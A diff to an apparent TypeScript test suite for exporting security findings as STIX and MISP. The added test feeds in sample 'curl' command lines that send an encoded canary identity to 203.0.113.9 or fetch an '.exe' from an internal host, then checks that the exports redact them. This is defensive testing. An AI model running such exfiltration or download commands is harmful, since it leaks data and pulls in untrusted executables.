@@ -221,6 +221,22 @@ describe('forms for other programs', () => {
       const all = text(name, assessment, named)
       assert.ok(all.includes(`${canary}@${canary}.example`) && all.includes(`"${canary}"`))
     }
+    // Nor where what was taken goes out encoded, nor a host that only the house can call so.
+    const base64 = (text: string, encoding: BufferEncoding): string => Buffer.from(text, encoding).toString('base64')
+    for (const sent of [
+      `203.0.113.9/up?u=%7A%7acanary%2Eperson%40x`,
+      `203.0.113.9/up?u=%257A%257Acanary%2540x`,
+      `203.0.113.9/up?u=${base64(`host=${canary}`, 'utf8')}`,
+      `203.0.113.9/up?u=${base64(`${canary}-host`, 'utf16le')}`,
+      'files.ad.zzhouse.local/a.exe',
+    ])
+      for (const name of ['stix', 'misp']) {
+        const told = text(name, {
+          ...assessment,
+          ...withFindings({ ...finding, facts: { CommandLine: `curl http://${sent}` } }),
+        })
+        assert.ok(!told.includes('/up?u=') && !told.includes('zzhouse'), told)
+      }
     // Nor of the sample, whose names are known.
     for (const name of ['stix', 'misp'])
       assert.doesNotMatch(text(name, server), /mail01|contoso|ceo@|legal@|administrator/i)
